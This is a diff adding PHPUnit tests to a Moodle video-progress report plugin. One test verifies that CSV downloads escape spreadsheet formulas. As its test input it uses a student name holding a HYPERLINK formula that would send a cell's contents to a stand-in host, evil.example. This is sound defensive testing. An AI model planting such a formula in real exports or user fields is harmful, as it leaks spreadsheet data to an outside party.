@@ -141,6 +141,34 @@ final class progress_report_test extends \advanced_testcase {
         $this->assertSame(['Zed B', 'Intro: master', '50', '0:05:00'], [$table->col_fullname($row), $table->col_video($row),
             $table->col_percent($row), $table->col_position($row)]);
         $this->assertMatchesRegularExpression('/^\\d{4}-\\d\\d-\\d\\dT/', $table->col_lastwatched($row));
+        // Seconds watched and time spent beside the percent (one report an hour after the first: one step).
+        $this->assertSame('300', $table->col_watched($row));
+        $this->assertSame((string) \filter_hlsgate\local\progress_update::MAX_TIME_STEP, $table->col_timespent($row));
+    }
+
+    public function test_a_download_keeps_formulas_as_text(): void {
+        global $PAGE;
+        $this->resetAfterTest();
+        $gen = $this->getDataGenerator();
+        $course = $gen->create_course();
+        $context = \context_course::instance($course->id);
+        $page = \context_module::instance($gen->create_module('page', ['course' => $course->id, 'name' => '@Intro'])->cmid);
+        $evil = $gen->create_and_enrol($course, 'student',
+            ['firstname' => '=HYPERLINK("http://evil.example/?x="&A1,"Kim")', 'lastname' => '']);
+        self::watched($evil, $page, self::RES1, [[0, 60]], 60);
+        $this->setAdminUser();
+        $PAGE->set_url(new \moodle_url('/filter/hlsgate/report.php', ['id' => $course->id]));
+        $PAGE->set_context($context);
+        $table = new progress_report_table($context, 0, new \moodle_url('/filter/hlsgate/report.php', ['id' => $course->id]));
+        $table->setup();
+        $table->query_db(50, false);
+        $table->download = 'csv';
+        $cells = array_values($table->format_row(reset($table->rawdata)));
+        $this->assertStringStartsWith('\'=HYPERLINK("http://evil.example/?x="&A1,"Kim")', $cells[0]);
+        $this->assertSame("'@Intro: master", $cells[1]);
+        // On screen nothing changes.
+        $table->download = '';
+        $this->assertStringNotContainsString("'=HYPERLINK", implode('', $table->format_row(reset($table->rawdata))));
     }
 
     public function test_capability_and_navigation(): void {
